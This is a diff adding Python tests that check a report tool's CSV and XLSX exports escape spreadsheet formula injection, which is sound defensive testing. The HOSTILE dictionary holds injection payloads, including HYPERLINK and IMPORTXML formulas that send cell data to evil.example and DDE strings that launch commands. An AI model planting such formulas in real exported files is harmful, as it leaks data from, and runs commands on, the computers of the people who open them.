@@ -538,3 +538,81 @@ async def test_graphql_report_refuses_a_year_out_of_range(
     (error,) = body["errors"]
     assert error["extensions"]["code"] == "BAD_USER_INPUT"
     assert error["message"].startswith("no report for 2018: choose a year from 2019")
+
+
+# Spreadsheet formula injection (issue 17): text that reaches `stem report --format csv|xlsx`
+# from outside (academy names from the registry, UiTdatabank theme ids through activities) is
+# written so that no spreadsheet runs it: OWASP's leading `'` before `= + - @`, tab and CR; in
+# the workbook every text cell a string (data type `s`), numbers still numbers.
+
+HOSTILE = {
+    "=": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+HOSTILE_THEME = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
+
+
+class HostileSource(FakeSource):
+    """The report's fake port with academy names and a theme id an attacker chose."""
+
+    async def academies(self, ids: Sequence[str]) -> dict[str, AcademyRead]:
+        names = dict(zip(sorted(ACADEMIES), HOSTILE.values(), strict=False))
+        return {i: AcademyRead(id=i, name=names[i]) for i in ids if i in names}
+
+    async def calendar_summary(self, year: int) -> CalendarSummaryRead:
+        return CalendarSummaryRead(
+            year=year,
+            activities=36,
+            months=ALL_MONTHS,
+            themes={HOSTILE_THEME: 30, "1.25.0.0.0": 6},
+            age_groups={"under_14": 36},
+        )
+
+
+def _hostile_names() -> list[str]:
+    return list(HOSTILE.values())[: len(ACADEMIES)]
+
+
+async def test_the_csv_prefixes_every_formula_starter_with_a_quote() -> None:
+    report = await build_report(HostileSource(), 2022, today=TODAY)
+    cells = [c for row in csv.reader(io.StringIO(render(report, "csv").decode())) for c in row]
+
+    for name in _hostile_names():
+        assert name not in cells  # never as given, at the start of a cell
+        assert "'" + name in cells
+    assert "'" + HOSTILE_THEME in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    # Our own numbers are untouched.
+    assert "2022" in cells and "36" in cells
+
+
+async def test_the_workbook_holds_hostile_text_as_quoted_strings_and_numbers_as_numbers() -> None:
+    report = await build_report(HostileSource(), 2022, today=TODAY)
+    book = load_workbook(io.BytesIO(render(report, "xlsx")))
+
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    text = [c for c in cells if isinstance(c.value, str)]
+    assert {c.data_type for c in text} == {"s"}
+    values = {c.value for c in text}
+    for name in _hostile_names():
+        assert "'" + name in values
+    assert "'" + HOSTILE_THEME in values
+    themes = list(book["themes"].iter_rows(min_row=2, values_only=True))
+    assert (2022, "'" + HOSTILE_THEME, "'" + HOSTILE_THEME, 30) in themes
+    assert all(isinstance(n, int) for *_, n in themes)
+
+
+async def test_a_name_with_control_characters_still_gives_a_workbook() -> None:
+    class BellSource(FakeSource):
+        async def academies(self, ids: Sequence[str]) -> dict[str, AcademyRead]:
+            return {i: AcademyRead(id=i, name=f"Lab\x07{i}\x1b") for i in ids}
+
+    report = await build_report(BellSource(), 2022, today=date(2026, 11, 28))
+    book = load_workbook(io.BytesIO(render(report, "xlsx")))
+    names = {r[1] for r in book["participants"].iter_rows(min_row=2, values_only=True)}
+    assert "Laba" in names
